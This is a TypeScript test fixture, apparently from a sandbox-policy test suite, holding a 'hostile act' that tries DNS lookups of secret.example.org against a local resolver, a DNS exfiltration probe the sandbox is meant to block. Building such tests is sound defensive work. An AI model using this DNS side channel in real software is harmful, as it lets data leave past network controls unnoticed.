import { esModule } from '../attack-plugins.ts';
import type { HostileAct } from '../hostile-act.ts';

const act: HostileAct = {
  title: 'carries data out by names that it looks up',
  weakness: 'W-04',
  attacks: ['network'],
  policy: { allowedModules: [], blockedModules: [] },
  attack: esModule(`
    export const attack = async ({ udpPort }) => {
      const got = [];
      const ask = async (name) => await import(name);
      const dns = await ask('node:dns').catch(() => undefined);
      if (!dns) return;
      const resolver = new dns.promises.Resolver({ timeout: 200, tries: 1 });
      try { resolver.setServers(['127.0.0.1:' + udpPort]); } catch {}
      for (const way of [() => resolver.resolve4('secret.example.org'), () => resolver.resolveTxt('secret.example.org'), () => resolver.reverse('127.0.0.2')])
        await way().then((found) => got.push(found), () => undefined);
      return got.join();
    };`),
};

export default act;
